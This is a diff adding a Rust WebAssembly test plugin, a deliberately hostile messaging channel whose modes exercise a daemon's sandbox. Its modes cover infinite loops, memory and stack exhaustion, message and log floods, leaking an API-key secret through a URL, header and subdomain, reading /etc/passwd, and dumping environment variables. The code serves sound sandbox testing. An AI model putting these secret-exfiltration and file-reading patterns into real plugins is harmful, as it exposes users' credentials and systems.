@@ -1,0 +1,158 @@
+//! A channel that misbehaves on purpose. The instance setting `mode` picks the
+//! attack; `well-behaved` emits one message per request like a normal channel.
+//! The sandbox tests run each mode through the real daemon and check that only
+//! the offending call fails.
+
+#[expect(unsafe_code, reason = "generated bindings")]
+mod bindings {
+    wit_bindgen::generate!({ world: "full", path: "../../../wit/channel@0.1.0" });
+
+    use super::Hostile;
+    export!(Hostile);
+}
+
+use bindings::exports::switchboard::channel::channel::Guest;
+use bindings::exports::switchboard::channel::persistence::Guest as Persistence;
+use bindings::switchboard::channel::host;
+use bindings::switchboard::channel::types::{
+    DeliveryError, HttpRequest, HttpResponse, InboundMessage, MessageKind, OutboundMessage,
+    OutgoingRequest, Receipt,
+};
+
+struct Hostile;
+
+fn message(id: String, text: String) -> InboundMessage {
+    InboundMessage {
+        external_id: id,
+        conversation_id: "c1".to_owned(),
+        sender_id: "s1".to_owned(),
+        sender_name: None,
+        text: Some(text),
+        timestamp: 0,
+        reply_to: None,
+        kind: MessageKind::Text,
+        is_edit: false,
+        metadata: "{}".to_owned(),
+    }
+}
+
+fn ok(body: String) -> HttpResponse {
+    HttpResponse {
+        status: 200,
+        headers: vec![("content-type".to_owned(), "text/plain".to_owned())],
+        body: body.into_bytes(),
+    }
+}
+
+#[inline(never)]
+#[expect(unconditional_recursion, reason = "exhausting the stack is the point")]
+fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
+    pad[(depth % 256) as usize] = depth as u8;
+    let mut next = [0u8; 256];
+    next.copy_from_slice(pad);
+    1 + recurse(depth + 1, &mut next) + u64::from(next[0])
+}
+
+fn fetch(url: String, headers: Vec<(String, String)>) -> String {
+    let request = OutgoingRequest {
+        method: "GET".to_owned(),
+        url,
+        headers,
+        body: Vec::new(),
+        timeout_ms: Some(500),
+    };
+    match host::http_fetch(&request) {
+        Ok(response) => format!(
+            "status {} headers {:?} body {}",
+            response.status,
+            response.headers,
+            String::from_utf8_lossy(&response.body)
+        ),
+        Err(e) => format!("fetch error: {e:?}"),
+    }
+}
+
+impl Guest for Hostile {
+    fn on_http_request(request: HttpRequest) -> HttpResponse {
+        let mode = host::setting("mode").unwrap_or_default();
+        let target = host::setting("target").unwrap_or_default();
+        let id = String::from_utf8_lossy(&request.body).trim().to_owned();
+        match mode.as_str() {
+            "loop" => {
+                let mut x: u64 = 1;
+                loop {
+                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
+                    if x == 0 {
+                        return ok(String::new());
+                    }
+                }
+            }
+            "memory" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    if hoard.len() == usize::MAX {
+                        return ok(String::new());
+                    }
+                }
+            }
+            "recursion" => {
+                let mut pad = [0u8; 256];
+                ok(recurse(0, &mut pad).to_string())
+            }
+            "emit-flood" => {
+                for n in 0..1_000_000u64 {
+                    let _ = host::emit(&message(format!("{id}-{n}"), "flood".to_owned()));
+                }
+                ok(String::new())
+            }
+            "huge-emit" => {
+                let _ = host::emit(&message(id, "x".repeat(32 << 20)));
+                ok(String::new())
+            }
+            "panic" => panic!("deliberate panic in a hostile guest"),
+            "log-flood" => {
+                for _ in 0..100_000 {
+                    host::log(host::LogLevel::Info, &"spam ".repeat(100));
+                }
+                let _ = host::emit(&message(id, "survived the log flood".to_owned()));
+                ok(String::new())
+            }
+            "fetch" => ok(fetch(target, Vec::new())),
+            "secret-echo" => ok(fetch(
+                format!("{target}?leak={{{{secret:api_key}}}}"),
+                vec![("x-leak".to_owned(), "{{secret:api_key}}".to_owned())],
+            )),
+            "secret-host" => ok(fetch(
+                "http://{{secret:api_key}}.example.com/".to_owned(),
+                Vec::new(),
+            )),
+            "read-file" => ok(match std::fs::read_to_string("/etc/passwd") {
+                Ok(text) => format!("read {} bytes", text.len()),
+                Err(e) => format!("file error: {e}"),
+            }),
+            "read-env" => ok(format!("env: {:?}", std::env::vars().collect::<Vec<_>>())),
+            _ => {
+                let text = String::from_utf8_lossy(&request.body).into_owned();
+                match host::emit(&message(id, text)) {
+                    Ok(()) => ok("stored".to_owned()),
+                    Err(e) => HttpResponse {
+                        status: 400,
+                        headers: Vec::new(),
+                        body: e.into_bytes(),
+                    },
+                }
+            }
+        }
+    }
+
+    fn on_respond(_message: OutboundMessage) -> Result<Receipt, DeliveryError> {
+        Ok(Receipt { external_id: None })
+    }
+}
+
+impl Persistence for Hostile {
+    fn on_message_persisted(_message: InboundMessage) -> Result<(), String> {
+        Ok(())
+    }
+}
